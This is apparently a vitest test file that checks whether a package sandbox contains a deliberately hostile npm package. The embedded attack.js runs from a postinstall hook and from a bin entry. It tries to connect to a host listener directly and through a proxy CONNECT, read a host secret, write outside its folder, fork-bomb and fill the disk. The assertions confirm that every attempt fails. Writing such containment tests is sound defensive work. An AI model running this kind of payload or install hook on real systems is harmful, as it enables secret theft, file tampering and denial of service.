// A hostile package, during install (postinstall) and during execute, tries to reach a listener on the
// host's loopback (directly and through the registry proxy), write outside its work folder, read a secret
// from the host's data folder, fork without limit and fill the disk. It must end failed or contained, and
// the host untouched: the listener saw nothing, the files are unchanged, the secret never appears.
import { existsSync, promises as fsp } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Registries } from '../../../build/verify/registries.ts';
import { runContract } from '../../../build/verify/run-contract.ts';
import { judge } from '../../../build/verify/verdict.ts';
import { type FakeRegistry, startFakeNpmRegistry } from '../../helpers/fake-npm-registry.ts';
import { toolContract as contract } from '../../helpers/tool-contract.ts';

let registry: FakeRegistry;
let listener: net.Server;
const connections: string[] = [];
let hostDir: string;
let dataDir: string;
const secret = `TOPSECRET-${Math.random().toString(36).slice(2)}`;
const marker = `pwned-${process.pid}-${Date.now()}`;

function attack(port: number): string {
  return `#!/usr/bin/env node
const fs = require('fs'), net = require('net'), http = require('http'), { spawn } = require('child_process');
const phase = process.argv[2] || 'execute';
const say = (s) => console.log('[' + phase + '] ' + s);
const tryIt = (label, fn) => { try { say(label + ': ' + fn()); } catch (e) { say(label + ': ' + e.code); } };
process.on('SIGXFSZ', () => {});
(async () => {
  await new Promise((done) => {
    const s = net.connect(${port}, '127.0.0.1', () => { say('CONNECTED to host listener'); s.end(); done(); });
    s.on('error', (e) => { say('direct connect: ' + e.code); done(); });
  });
  await new Promise((done) => {
    const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
    if (!proxy) { say('proxy: none'); return done(); }
    const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: '127.0.0.1:${port}' });
    req.on('connect', (res) => { say('proxy CONNECT: ' + res.statusCode); done(); });
    req.on('error', (e) => { say('proxy CONNECT: ' + e.code); done(); });
    req.end();
  });
  tryIt('read secret', () => fs.readFileSync(${JSON.stringify(path.join('DATA_DIR', 'secret.txt'))}.replace('DATA_DIR', process.env.X || ${JSON.stringify('__DATA__')}), 'utf8'));
  tryIt('write host dir', () => fs.writeFileSync(${JSON.stringify('__HOST__/pwned.txt')}, 'x'));
  tryIt('overwrite host file', () => fs.writeFileSync(${JSON.stringify('__HOST__/keep.txt')}, 'overwritten'));
  tryIt('write /tmp', () => { fs.writeFileSync('/tmp/${marker}', 'x'); return 'ok (private /tmp)'; });
  tryIt('write /usr', () => fs.writeFileSync('/usr/${marker}', 'x'));
  let forks = 0;
  for (; forks < 5000; forks++) {
    const ok = await new Promise((r) => { const c = spawn('sleep', ['120']); c.on('spawn', () => r(true)); c.on('error', () => r(false)); });
    if (!ok) break;
  }
  say('forks before refusal: ' + forks);
  const big = Buffer.alloc(1024 * 1024, 120);
  tryIt('one big file', () => { for (let i = 0; i < 4096; i++) fs.appendFileSync('big.bin', big); return 'wrote 4 GiB'; });
  tryIt('fill the disk', () => { for (let i = 0; i < 4096; i++) fs.writeFileSync('fill-' + i + '.bin', Buffer.alloc(4 * 1024 * 1024, 1)); return 'wrote 16 GiB'; });
  say('done');
})();
`;
}

beforeAll(async () => {
  listener = net.createServer((s) => {
    connections.push(String(s.remoteAddress));
    s.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const port = (listener.address() as net.AddressInfo).port;
  hostDir = await fsp.mkdtemp(path.join(os.tmpdir(), 'hostile-host-'));
  dataDir = await fsp.mkdtemp(path.join(os.tmpdir(), 'hostile-data-'));
  await fsp.chmod(hostDir, 0o777);
  await fsp.chmod(dataDir, 0o755);
  await fsp.writeFile(path.join(hostDir, 'keep.txt'), 'original', { mode: 0o666 });
  // World-readable on purpose: only the sandbox's mount namespace keeps it out of reach.
  await fsp.writeFile(path.join(dataDir, 'secret.txt'), secret, { mode: 0o644 });
  const script = attack(port).replaceAll('__HOST__', hostDir).replaceAll('__DATA__', dataDir);
  registry = await startFakeNpmRegistry([
    { name: 'evil-install', files: { 'attack.js': script }, scripts: { postinstall: 'node attack.js install' } },
    { name: 'evil-run', files: { 'attack.js': script }, bin: { 'evil-run': 'attack.js' } },
  ]);
}, 60_000);

afterAll(async () => {
  await registry?.close();
  await new Promise<void>((resolve) => listener?.close(() => resolve()));
  await fsp.rm(hostDir, { recursive: true, force: true });
  await fsp.rm(dataDir, { recursive: true, force: true });
});

const limits = { processes: 200, fileBytes: 8 * 1024 ** 2, diskBytes: 96 * 1024 ** 2, wallMs: 150_000, cpuSeconds: 60 };

async function expectHostUntouched(output: string) {
  expect(connections).toEqual([]);
  expect(output).not.toContain(secret);
  expect(output).not.toContain('CONNECTED');
  expect(await fsp.readFile(path.join(hostDir, 'keep.txt'), 'utf8')).toBe('original');
  expect(existsSync(path.join(hostDir, 'pwned.txt'))).toBe(false);
  expect(existsSync(`/tmp/${marker}`)).toBe(false);
  expect(existsSync(`/usr/${marker}`)).toBe(false);
  expect(await fsp.readFile(path.join(dataDir, 'secret.txt'), 'utf8')).toBe(secret);
}

describe('a hostile package', { timeout: 300_000 }, () => {
  const registries = (): Registries => ({
    npm: registry.url,
    pipIndex: 'http://127.0.0.1:9/simple',
    pipExtraIndexes: [],
    pipFindLinks: [],
  });

  it('during install: every attempt is refused or contained, and the install is recorded as failed', async () => {
    const c = contract('npm-evil-install-v1', 'npm', {
      install_cmd: 'npm install evil-install',
      execute_cmd: 'npx evil-install',
    });
    const run = await runContract(c, { registries: registries(), limits });
    const output = `${run.install?.stdout}\n${run.install?.stderr}`;
    // The attempts did happen (so the checks below can fail) …
    expect(output).toMatch(/\[install\] direct connect: ECONNREFUSED/);
    expect(output).toMatch(/\[install\] proxy CONNECT: 403/);
    expect(output).toMatch(/\[install\] read secret: ENOENT/);
    expect(output).toMatch(/\[install\] forks before refusal: \d+/);
    expect(output).toMatch(/\[install\] one big file: EFBIG/);
    // … the disk filler was stopped …
    expect(run.install?.limit).toBe('disk');
    expect(judge(run)).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/install stopped at the disk limit/),
    });
    // … and the host saw nothing.
    await expectHostUntouched(output);
  });

  it('during execute (no network at all): the same, recorded as failed', async () => {
    const c = contract('npm-evil-run-v1', 'npm', { install_cmd: 'npm install evil-run', execute_cmd: 'npx evil-run' });
    const run = await runContract(c, { registries: registries(), limits });
    expect(run.install?.code).toBe(0);
    const output = `${run.execute?.stdout}\n${run.execute?.stderr}`;
    expect(output).toMatch(/\[execute\] direct connect: ECONNREFUSED/);
    expect(output).toMatch(/\[execute\] proxy: none/);
    expect(output).toMatch(/\[execute\] read secret: ENOENT/);
    expect(output).toMatch(/\[execute\] write \/usr: EROFS/);
    const forks = Number(/forks before refusal: (\d+)/.exec(output)?.[1]);
    expect(forks).toBeLessThan(limits.processes);
    expect(run.execute?.limit).toBe('disk');
    expect(judge(run).status).toBe('failed');
    await expectHostUntouched(output);
  });
});
